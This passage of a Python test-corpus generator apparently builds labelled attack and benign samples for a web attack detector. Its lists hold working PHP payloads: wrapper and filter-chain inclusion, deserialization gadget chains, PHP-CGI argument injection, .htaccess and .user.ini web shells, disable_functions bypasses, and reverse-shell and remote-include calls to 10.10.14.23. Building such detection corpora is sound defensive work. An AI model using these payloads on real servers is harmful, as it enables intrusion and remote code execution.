    # the lab appends '.php' to the page parameter
    "php://filter/convert.base64-encode/resource=admin",
    # php://input: the code travels in the POST body
    "php://input",
    # data:// (needs allow_url_include)
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php system('id');?>",
    # expect:// (the expect extension)
    "expect://id",
    "expect://whoami",
    # phar:// and zip:// after an image upload that is really an archive
    "phar://uploads/avatar.jpg/shell.php",
    "phar:///var/www/html/uploads/evil.phar/test.txt",
    "zip://uploads/shell.jpg#shell.php",
    "zip:///var/www/html/uploads/file.zip#payload",
    # glob:// to list directories through a DirectoryIterator
    "glob:///var/www/html/*",
    "compress.zlib:///etc/passwd",
    # write wrappers: file_put_contents($_GET['f'], "<?php exit; ?>".$data) bypass
    "php://filter/write=convert.base64-decode/resource=shell.php",
    "php://filter/write=string.rot13/resource=s.php",
    # the filter-chain RCE (iconv chain generated by the lab tool, first links)
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
    "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM921.NAPLPS|convert.base64-decode|convert.base64-encode|"
    "convert.iconv.UTF8.UTF7|convert.base64-decode/resource=php://temp",
]

# php-object-injection: serialized objects and arrays reaching unserialize() (PHP, PHP frameworks)
PHP_OBJECT: list[Entry] = [
    # the first probe
    'O:8:"stdClass":0:{}',
    'a:2:{i:0;s:4:"test";i:1;O:8:"stdClass":0:{}}',
    # PortSwigger "modifying serialized objects": flip the admin flag in the session cookie
    'O:4:"User":2:{s:8:"username";s:6:"wiener";s:5:"admin";b:1;}',
    # PortSwigger "modifying serialized data types": integer 0 == any string in PHP 7 loose comparison
    'O:4:"User":2:{s:8:"username";s:13:"administrator";s:12:"access_token";i:0;}',
    # PortSwigger "arbitrary object injection": __destruct() deletes the lock file path
    'O:14:"CustomTemplate":1:{s:14:"lock_file_path";s:23:"/home/carlos/morale.txt";}',
    # type juggling login: password true compares equal to anything
    'a:2:{s:8:"username";s:5:"admin";s:8:"password";b:1;}',
    'a:1:{s:4:"role";s:5:"admin";}',
    # HTB "Toxic": the PageModel cookie's include path pointed at the poisoned nginx log
    'O:9:"PageModel":1:{s:4:"file";s:25:"/var/log/nginx/access.log";}',
    "Tzo5OiJQYWdlTW9kZWwiOjE6e3M6NDoiZmlsZSI7czoyNToiL3Zhci9sb2cvbmdpbngvYWNjZXNzLmxvZyI7fQ==",
    "Tzo5OiJQYWdlTW9kZWwiOjE6e3M6NDoiZmlsZSI7czoxMToiL2V0Yy9wYXNzd2QiO30=",
    # regex filter /O:\d+:/ bypassed with a plus sign (PHP < 7.2)
    'O:+4:"User":1:{s:7:"isAdmin";b:1;}',
    'O:+8:"FileRead":1:{s:4:"file";s:8:"flag.php";}',
    # __wakeup() skipped when the property count is too large (CVE-2016-7124)
    'O:4:"Demo":2:{s:4:"file";s:8:"flag.php";}',
    # __destruct() writes a log file: make it a web shell (TryHackMe deserialisation room)
    'O:10:"FormSubmit":2:{s:9:"form_file";s:13:"evilshell.php";s:7:"message";s:30:"<?php system($_GET[\'cmd\']); ?>";}',
    # __toString() includes a file
    'O:6:"Logger":1:{s:7:"logfile";s:33:"php://filter/resource=/etc/passwd";}',
    # custom-serialized classes (C:) carrying an object
    'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}',
    'C:11:"ArrayObject":33:{x:i:0;O:7:"Exploit":0:{};m:a:0:{}}',
    # session handler 'php': a pipe starts a new serialized variable in the session file
    '|O:8:"stdClass":1:{s:4:"exec";s:2:"id";}',
    # Laravel/RCE1 gadget chain (phpggc), protected properties with NUL bytes and with the S: escape form
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\0*\0events";O:15:"Faker\\Generator":1:'
    '{s:13:"\0*\0formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\0*\0event";s:2:"id";}',
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{S:9:"\\00*\\00events";O:15:"Faker\\Generator":1:'
    '{S:13:"\\00*\\00formatters";a:1:{s:8:"dispatch";s:6:"system";}}S:8:"\\00*\\00event";s:6:"whoami";}',
    # Guzzle/FW1 (phpggc): FileCookieJar saves a cookie whose value is PHP into the web root
    'O:31:"GuzzleHttp\\Cookie\\FileCookieJar":2:{s:41:"\0GuzzleHttp\\Cookie\\FileCookieJar\0filename";'
    's:26:"/var/www/html/public/s.php";s:36:"\0GuzzleHttp\\Cookie\\CookieJar\0cookies";'
    'a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:'
    '{s:33:"\0GuzzleHttp\\Cookie\\SetCookie\0data";a:1:{s:5:"Value";s:26:"<?php system($_GET[0]); ?>";}}}}',
    # Monolog-style: a handler whose buffer is passed to a callable
    'O:8:"Bootable":2:{s:8:"callback";s:6:"system";s:4:"args";a:1:{i:0;s:13:"cat /flag.txt";}}',
    # references (R:) to make a property point at another (CTF labs with __wakeup checks)
    'O:6:"Secret":2:{s:5:"guess";N;s:6:"secret";R:2;}',
    # phar metadata object reached through phar:// (the archive's manifest)
    'O:8:"AnyClass":1:{s:4:"data";s:24:"rm -f /home/carlos/x.txt";}',
    'a:1:{i:0;O:11:"Application":1:{s:4:"exec";s:21:"cat /var/www/flag.txt";}}',
]

# php-config-directives: PHP-CGI -d arguments, .htaccess/.user.ini uploads and ini_set() (PHP-CGI, Apache, PHP)
PHP_CONFIG: list[Entry] = [
    # CVE-2012-1823 (PHP-CGI query string as arguments): source disclosure, then auto_prepend of the body
    ("-s", *RAWQ),
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", *RAWQ),
    ("-d+allow_url_include%3don+-d+auto_prepend_file%3dhttp://10.10.14.23/shell.txt", *RAWQ),
    ("-d+safe_mode%3dOff+-d+disable_functions%3dNULL+-d+allow_url_include%3dOn+-d+auto_prepend_file%3dphp://input",
     *RAWQ),
    ("-d+cgi.force_redirect%3d0+-d+cgi.redirect_status_env%3d0+-d+allow_url_include%3d1+"
     "-d+auto_prepend_file%3dphp://input", *RAWQ),
    ("-d+auto_prepend_file%3d/proc/self/environ", *RAWQ),
    # CVE-2024-4577 (PHP-CGI on Windows, soft hyphen read as '-')
    ("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", *RAWQ),
    ("%ADd+cgi.force_redirect%3d0+%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", *RAWQ),
    # .htaccess uploaded next to the images (Apache): make .jpg run as PHP
    "AddType application/x-httpd-php .jpg",
    "AddHandler php5-script .gif",
    '<FilesMatch "shell.jpg">SetHandler application/x-httpd-php</FilesMatch>',
    'php_value auto_prepend_file "/var/www/html/uploads/shell.jpg"',
    'php_value auto_append_file "php://filter/convert.base64-decode/resource=shell.jpg"',
    "php_value auto_prepend_file /proc/self/environ",
    # a self-contained .htaccess web shell in UTF-7
    'php_value zend.multibyte 1\nphp_value zend.script_encoding "UTF-7"\nphp_value auto_append_file .htaccess\n'
    "#+ADw?php system(+ACQ-_GET+AFs-c+AF0-)+ADs?+AD4-",
    # .user.ini for php-fpm hosts (the upload-labs level that blocks .htaccess)
    "auto_prepend_file=shell.gif",
    "auto_prepend_file=/var/www/html/uploads/avatar.png",
    "auto_prepend_file=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
    # php.ini dropped into a CGI directory (shared-hosting labs)
    "safe_mode = Off\ndisable_functions = NULL\nallow_url_include = On",
    # php-fpm: PHP_VALUE/PHP_ADMIN_VALUE injected through FastCGI (CVE-2019-11043 and exposed port 9000)
    "PHP_VALUE\nauto_prepend_file = php://input",
    "PHP_ADMIN_VALUE\nallow_url_include = On",
    # .user.ini widening open_basedir and prepending a session file written through the lab's LFI
    "open_basedir=/\nauto_prepend_file=/tmp/sess_pwn",
    # ini_set() in an eval sink: the open_basedir escape and a shell written through error_log
    "chdir('img');ini_set('open_basedir','..');chdir('..');chdir('..');chdir('..');chdir('..');"
    "ini_set('open_basedir','/');echo file_get_contents('/etc/passwd');",
    "ini_set('error_log','/var/www/html/x.php');error_log('<?php system($_GET[0]);?>');",
    "ini_set('allow_url_include','1');include('http://10.10.14.23/s.txt');",
    "ini_set('display_errors',1);ini_set('open_basedir',NULL);readfile('/flag');",
]

# superglobals: code reading $_GET/$_POST/$_COOKIE/$_SERVER, and overwrites of the superglobals themselves (PHP)
PHP_SUPERGLOBALS: list[Entry] = [
    "eval($_POST['x']);",
    "assert($_REQUEST['c']);",
    "@eval(base64_decode($_POST['z0']));",
    "eval(gzinflate(base64_decode($_COOKIE['p'])));",
    "eval($_SERVER['HTTP_CMD']);",
    "system($_SERVER['HTTP_USER_AGENT']);",
    "passthru($_COOKIE['c']);",
    "system($HTTP_GET_VARS['cmd']);",
    "preg_replace('/.*/e',$_POST['code'],'');",
    "array_map('assert',$_POST);",
    "include($_GET['file']);",
    "highlight_file($_GET['f']);",
    "file_put_contents($_GET['f'],$_GET['d']);",
    "move_uploaded_file($_FILES['f']['tmp_name'],'/var/www/html/s.php');",
    "echo file_get_contents($_REQUEST['url']);",
    # information disclosure in an eval sink (CTF "find the flag variable")
    "print_r($GLOBALS);",
    "var_dump($_SERVER);",
    "var_dump($_ENV);",
    "echo $_ENV['FLAG'];",
    "var_dump($_SESSION);",
    "print_r($_COOKIE);",
    "echo $_SERVER['DOCUMENT_ROOT'];",
    ";$_SESSION['role']='admin';//",
    # register_globals and extract($_GET) labs: overwrite the superglobals from the query string
    ("_SESSION[admin]=1&_SESSION[user]=admin", *RAWQ),
    ("GLOBALS[admin]=1", *RAWQ),
    ("_SERVER[REMOTE_ADDR]=127.0.0.1", *RAWQ),
]

# php-file-upload: file names that Apache/nginx+php-fpm will run as PHP (the lab's upload page)
PHP_UPLOAD: list[Entry] = [
    # DVWA File Upload low, THM "Upload Vulnerabilities", pentestmonkey's reverse shell name
    ("shell.php", *UP),
    ("php-reverse-shell.php", *UP),
    ("cmd.php", *UP),
    # extension blacklists that forget the other PHP handlers
    ("shell.php5", *UP),
    ("shell.php7", *UP),
    ("shell.php3", *UP),
    ("shell.phtml", *UP),
    ("shell.pht", *UP),
    ("shell.phar", *UP),
    ("shell.phps", *UP),
    ("shell.inc", *UP),
    # case-sensitive blacklists
    ("shell.pHp", *UP),
    ("shell.PhP5", *UP),
    # double extensions (Apache AddHandler), null byte (PHP < 5.3.4), the filter deletes 'php' once
    ("shell.php.jpg", *UP),
    ("shell.jpg.php", *UP),
    ("shell.php%00.jpg", *UP),
    ("shell.php\x00.jpg", *UP),
    ("shell.pphphp", *UP),
    # Windows hosts: trailing dot, trailing space, NTFS stream, IIS semicolon
    ("shell.php.", *UP),
    ("shell.php::$DATA", *UP),
    ("shell.php;.jpg", *UP),
    # config files uploaded to make another extension run
    (".htaccess", *UP),
    (".user.ini", *UP),
    # path traversal in the name: out of the no-exec upload folder into the web root
    ("../../var/www/html/shell.php", *UP),
    # the famous web shells by name
    ("c99.php", *UP),
    ("filename*=UTF-8''webshell.phtml", *UP),
]

# php-high-risk-function-names: the less common dangerous functions students reach for when system() is disabled
PHP_HIGHRISK: list[Entry] = [
    # reading disable_functions first
    "var_dump(ini_get('disable_functions'));",
    "print_r(get_defined_vars());",
    "show_source(__FILE__);",
    "print_r(scandir('/'));",
    "var_dump(glob('/*'));",
    "echo php_uname().get_current_user().getcwd();",
    "print_r(posix_getpwuid(posix_geteuid()));",
    # disable_functions bypasses (HTB/CTF): LD_PRELOAD through mail(), imap_open, FFI, ob_start callback
    "putenv('LD_PRELOAD=/tmp/evil.so');mail('a@b.c','x','x');",
    "imap_open('{x -oProxyCommand=echo\tZWNobyAncHduZWQnID4gL3RtcC9wd25lZA==|base64\t-d|sh}','','');",
    "FFI::cdef('int system(const char *command);')->system('id');",
    "ob_start('system');echo 'id';ob_end_flush();",
    "dl('/tmp/evil.so');",
    "mb_ereg_replace('.*',$_GET['c'],'x','e');",
    "Closure::fromCallable('system')('id');",
    "array_walk($a=array('id'=>1),'system');",
    # writing a shell with file functions
    "error_log('<?php system($_GET[c]);?>',3,'/var/www/html/s.php');",
    "fwrite(fopen('s.php','w'),'<?php system($_GET[c]);?>');",
    "copy('http://10.10.14.23/s.txt','/var/www/html/s.php');",
    "symlink('/','/var/www/html/root');",
    "chmod('/var/www/html/s.php',0777);",
    "unlink('/var/www/html/index.php');",
    # network functions for a reverse shell or SSRF
    "fsockopen('10.10.14.23',4444);",
    "stream_socket_client('tcp://10.10.14.23:4444');",
    "curl_exec(curl_init('file:///etc/passwd'));",
    # PHPMailer-style mail() argument injection writing a log as a web shell
    'mail("x@x.com","s","<?php system($_GET[c]);?>","","-OQueueDirectory=/tmp -X/var/www/html/rce.php");',
    "extract($_POST);parse_str($_SERVER['QUERY_STRING']);",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", XSS_LIBINJECTION),
    ("xss", "script-tag", XSS_SCRIPT),
    ("xss", "event-handler", XSS_EVENT),
    ("xss", "attribute-vector", XSS_ATTRIBUTE),
    ("xss", "javascript-uri", XSS_JSURI),
    ("xss", "html-injection", XSS_HTML),
    ("xss", "svg-mathml", XSS_SVG),
    ("xss", "css-expression", XSS_CSS),
    ("xss", "template-literal-dom-sink", XSS_DOM),
    ("xss", "ie-filter-style", XSS_IE),
    ("xss", "encoded-entity", XSS_ENCODED),
    ("xss", "angular-vue-template", XSS_CSTI),
    ("php", "php-open-tag", PHP_OPEN_TAG),
    ("php", "php-function-call", PHP_FUNCTION),
    ("php", "php-variable-functions", PHP_VARFUNC),
    ("php", "php-wrappers", PHP_WRAPPERS),
    ("php", "php-object-injection", PHP_OBJECT),
    ("php", "php-config-directives", PHP_CONFIG),
    ("php", "superglobals", PHP_SUPERGLOBALS),
    ("php", "php-file-upload", PHP_UPLOAD),
    ("php", "php-high-risk-function-names", PHP_HIGHRISK),
]
# fixed query-string entries of these families are written as the lab sends them, sent unquoted
RAW_SUBS = {"template-literal-dom-sink", "angular-vue-template", "php-function-call", "php-variable-functions",
            "php-config-directives", "superglobals"}
# the labs' upload pages (DVWA, bWAPP, Mutillidae-style) for the regression-suite copy of an upload
UPLOAD_PATHS = ["/vulnerabilities/upload/", "/bWAPP/unrestricted_file_upload.php", "/upload.php"]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_SUBS
    names = ["name", "q", "message", "comment", "search", "file", "cmd", "lang", "redirect", "title"]
    rs_paths = ["/vulnerabilities/xss_r/", "/vulnerabilities/fi/", "/bWAPP/xss_get.php", "/mutillidae/index.php",
                "/rest/products/search", "/index.php", "/"]
    rs_names = ["name", "txtName", "mtxMessage", "default", "page", "message", "q", "code"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+|^`"
    raw_places = ("query", "form", "param-name", "rs-query", "rs-param-name", "rs-raw-body")
    upload = "GIF89a"
    file_type = "image/gif"
    unique = True
    path_forbids = "/?#\\"
    xml_controls = "\n\t"

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """A fixed entry of a raw family goes as the lab writes it (its own `name=value`, or a CGI argument)."""
        return fixed and sub in self.raw_subs

    def rs_path(self, category: str, sub: str, k: int) -> str:
        if sub == "php-file-upload":
            return UPLOAD_PATHS[k % len(UPLOAD_PATHS)]
        return super().rs_path(category, sub, k)

    def fits(self, place: str, v: str) -> bool:
        """A raw form body must not be split or decoded differently (&, %, +), nor carry control characters."""
        if place == "rs-raw-body":
            return not any(ch in v for ch in "&%+") and all(ch >= " " or ch in "\n\t" for ch in v)
        return super().fits(place, v)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (a security team's training channel: students' questions about the
# labs, instructors' hints in prose, course schedules, links to write-ups and docs, code review comments, searches,
# profiles, lab report file names, ordinary headers)
CHAT = [
    "reminder: DVWA lab session is Thursday 14:00, bring a laptop with Docker installed",
    "has anyone got the DVWA reflected XSS working on medium? my low-level solution stops working there",
    "hint for the medium level: read the source, the filter is case-sensitive",
    "the Juice Shop scoreboard is hidden, look at the JavaScript bundle for the route",
    "Juice Shop DOM XSS challenge done, took me a while to realise the search box was the sink",
    "WebGoat 2023.8 is the version we use, the older lessons moved around",
    "please don't run the bWAPP VM on the office network, use the lab VLAN",
    "Mutillidae reset button is under the menu, if your stored XSS page is full of alerts",
    "TryHackMe room for next week: File Inclusion, then Upload Vulnerabilities",
    "HTB academy module on XSS is free for students this month",
    "if the lab uses htmlspecialchars with ENT_QUOTES you're not getting out of that attribute, try another field",
    "why does my payload fire in Firefox but not in Chrome? same page, same input",
    "Chrome removed the XSS Auditor years ago, old write-ups that mention it are outdated",
    "IE-only vectors from old cheat sheets won't work in any browser you have, skip them",
    "for the CSP lab read the policy header first, then decide what you can still load",
    "code review: this template uses |safe on the user bio, please remove it",
    "code review: innerHTML here should be textContent, nothing in that string needs markup",
    "code review: we echo $_GET['q'] back into the page without escaping, use htmlspecialchars()",
    "code review: eval() in the config loader has to go, parse the JSON instead",
    "code review: unserialize() on the cookie is a no-go, switch to json_decode",
    "code review: system() with user input in the backup script, use escapeshellarg or better no shell at all",
    "the PHP lab VM runs php 5.6 on purpose, don't upgrade it or half the exercises break",
    "DVWA file inclusion needs allow_url_include on for the remote part, it's off by default in newer PHP",
    "php.ini on the lab image has display_errors on, that's intentional for teaching",
    "upload lab: the server checks the MIME type only, think about what the browser sends",
    "the upload exercise is about extensions, .phtml and .phar come up in the lecture",
    "don't upload real malware to the lab, the EICAR test file is enough for the AV demo",
    "php://filter came up in the quiz, it's the wrapper that lets you read source as base64",
    "Angular template injection quiz answers are in the course drive under week 6",
    "Vue escapes mustache output by default, v-html is where it goes wrong",
    "anyone else's Burp Collaborator not resolving from the lab network?",
    "instructor note: grade the reports on explanation, not on how fancy the payload is",
    "week 3 slides: DOM sources and sinks, location.hash, document.write, innerHTML",
    "week 4: stored vs reflected vs DOM, and why the fix is output encoding",
    "week 5: PHP object injection, magic methods __wakeup and __destruct",
    "week 7: file upload, .htaccess, and why uploads should never be in the web root",
    "week 8: defence, CSP, SameSite cookies, HttpOnly",
    "office hours moved to Friday, same room",
    "lab VMs reset every night at 2am, save your notes outside them",
    "the CTF on Saturday has three web challenges, one of them is a PHP deserialization one",
    "great write-up on the Juice Shop admin section challenge, link in the thread",
    "I keep getting a 403 on the lab, is the WAF demo on today?",
    "yes the WAF demo box is on, that's the point of the exercise",
    "TIL str_replace only runs once per call, that's the whole medium-level trick",
    "SVG files can carry script, that's why we don't allow SVG avatars in production",
    "please sanitize markdown before rendering it, we had a bug report about the comment preview",
    "our bug bounty got an XSS report on the help center search, triaging now",
    "the report includes a screenshot with alert(1), that's all we need to reproduce",
    "fixed: the search page now encodes quotes, thanks for the report",
    "question from the quiz: what's the difference between onerror and onload on an img?",
    "the HttpOnly flag stops document.cookie from reading the session, not the XSS itself",
    "should we add SameSite=Lax to the training portal session cookie too?",
    "anyone have a good explanation of mutation XSS for beginners?",
    "the mXSS talk from last year's conference is on YouTube, search for DOMPurify",
    "mentor pairing for the web module is posted, check the sheet",
    # bios
    "Security trainer. I run the DVWA and Juice Shop labs for new joiners.",
    "AppSec engineer. Code reviews, threat models, the occasional XSS.",
    "Student, web security module. Currently stuck on WebGoat lesson 7.",
    "PHP developer since 5.2, now mostly Laravel and Symfony.",
    "Frontend dev. Angular, Vue, a lot of CSS. Escapes everything.",
    "Pentester, OSWE in progress. Likes file upload bugs.",
    "HTB player, rank Hacker. Web and Linux boxes.",
    "TryHackMe streak 200 days, learning one room at a time",
]

SEARCHES = [
    "script", "alert", "svg", "iframe", "Angular", "vue", "php", "Juice Shop", "dvwa", "webgoat", "bwapp",
    "mutillidae", "hackthebox", "tryhackme", "upload", "filter", "include", "eval", "system", "shell", "phar",
    "style", "css", "expression", "onerror", "template", "object", "serialize", "globals", "config", "ini",
    "htaccess", "Mike Script", "Ana Style", "O'Connor", "mathml", "base64", "entity", "cookie", "session",
    "xss", "training", "lab", "instructor", "trainer", "frontend", "appsec", "Laravel", "symfony", "zip",
]

URLS = [
    "https://owasp.org/www-project-juice-shop/",
    "https://owasp.org/www-project-webgoat/",
    "https://github.com/digininja/DVWA",
    "https://github.com/juice-shop/juice-shop",
    "https://github.com/WebGoat/WebGoat",
    "https://github.com/webpwnized/mutillidae",
    "http://www.itsecgames.com/",
    "https://pwning.owasp-juice.shop/companion-guide/latest/part2/xss.html",
    "https://portswigger.net/web-security/cross-site-scripting",
    "https://portswigger.net/web-security/cross-site-scripting/dom-based",
    "https://portswigger.net/web-security/deserialization/exploiting",
    "https://portswigger.net/web-security/file-upload",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/File_Upload_Cheat_Sheet.html",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/ini.core.php#ini.auto-prepend-file",
    "https://www.php.net/manual/en/function.htmlspecialchars.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/CSP",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML#security_considerations",
    "https://angular.io/guide/security",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://tryhackme.com/room/fileinc",
    "https://academy.hackthebox.com/course/preview/cross-site-scripting-xss",
    "https://training.example.com/web-module/week-4/stored-vs-reflected",
]

PROSE = [
    "XSS training lab - room 2.14",
    "DVWA security level set to low for the first session",
    "Juice Shop challenge review: DOM XSS and bonus payload",
    "WebGoat lesson plan, weeks 3 to 6",
    "bWAPP and Mutillidae VMs for the advanced group",
    "script review meeting",
    "template engine migration owners",
    "style guide committee",
    "object storage team",
    "system administrators on call",
    "include the PHP team in the retro",
    "eval board meeting notes",
    "shell company due diligence",
    "expression of interest, mentoring programme",
    "upload limits for the document portal",
    "frame supplier contracts",
    "embed team for the partner portal",
    "base salary review",
    "meta team leads",
    "link checker owners",
    "form builder team",
    "filter by department and location",
    "session recordings, security awareness week",
    "cookie policy update owners",
    "global config owners",
    "Angular migration squad",
    "Vue 3 upgrade working group",
    "file upload reviewers",
    "serialized report export",
    "superglobal coffee club",
    "config review: php.ini and nginx",
    "phar archive of old releases",
    "zip export of the training material",
    "glob patterns workshop",
    "expect delays on the Friday deploy",
    "data team offsite",
    "alert fatigue working group",
    "on-call alerting review",
    "the instructors: Ana, Mike, Priya",
    "lab report deadline: 30 June",
]

PROFILES = [
    ("Mike Script", "Baker St 221, London"),
    ("Ana Style", "Rua Nova 5, Porto"),
    ("Alert Logistics", "Dock Rd 14, Rotterdam"),
    ("Svetlana Vue", "Nevsky Prospekt 20, Saint Petersburg"),
    ("Angular Ventures", "Marina Blvd 3, Singapore"),
    ("Juice Shop Café", "Market St 10, San Francisco"),
    ("Frame & Canvas Gallery", "Rue de Rivoli 44, Paris"),
    ("Object Design Studio", "Keizersgracht 80, Amsterdam"),
    ("Shell Station 42", "Highway 1, Perth"),
    ("System Integrators GmbH", "Hauptstr. 12, Munich"),
    ("Phar Lap Racing", "Flemington Rd 1, Melbourne"),
    ("Zip Couriers", "Canal St 9, Manchester"),
    ("Global Config Ltd", "Tech Park 7, Dublin"),
    ("Eval Consulting", "Via Roma 3, Milan"),
    ("Embed Labs", "Innovation Way 2, Tallinn"),
    ("Base Camp Outdoors", "Main St 120, Boulder"),
    ("Meta Metals", "Industrial Ave 8, Pittsburgh"),
    ("Expression Dance School", "Calle Mayor 15, Madrid"),
    ("Session Musicians Guild", "Abbey Rd 3, London"),
    ("Cookie Bakery", "Elm St 4, Portland"),
]

UPLOAD_NAMES = [
    "dvwa-lab-report-week3.pdf", "juice-shop-writeup.md", "webgoat-lesson7-notes.docx", "xss-slides-week4.pptx",
    "php-security-handout.pdf", "upload-lab-screenshots.zip", "bwapp-setup-guide.pdf", "mutillidae-notes.txt",
    "csp-policy-draft.txt", "team photo.jpg", "avatar.png", "course-schedule-2024.ics", "grades-web-module.xlsx",
    "deserialization-quiz-answers.pdf", "php.ini.example", "nginx.conf.sample", "htb-academy-certificate.pdf",
    "thm-file-inclusion-notes.md", "angular-security-checklist.pdf", "vue-v-html-review.md",
    "shell-scripting-101.pdf", "system-design-interview.pdf", "object-storage-pricing.xlsx", "profile_photo.jpeg",
    "report_final_v2.pdf",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Trident/7.0; rv:11.0) like Gecko"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "curl/8.7.1"),
    ("Referer", "https://tryhackme.com/room/xss"),
    ("Referer", "https://academy.hackthebox.com/module/103/section/965"),
    ("Referer", "https://portswigger.net/web-security/cross-site-scripting/contexts"),
    ("Referer", "https://www.google.com/search?q=dvwa+file+upload+medium+level"),
    ("Referer", "https://app.example.com/admin/users?sort=name&order=asc"),
    ("Referer", "https://training.example.com/courses/web-security/week-5"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "7d2c9b1e-4f3a-4e8b-a6d0-5c1e9f2b3a47"),
    ("Accept-Language", "pt-PT,pt;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; theme=dark; lang=en"),
    ("Cookie", "session=abc123; last_search=juice%20shop; tz=Europe%2FLisbon"),
    ("True-Client-IP", "203.0.113.45"),
    ("X-Forwarded-For", "198.51.100.77"),
    ("If-Modified-Since", "Wed, 05 Jun 2024 10:00:00 GMT"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
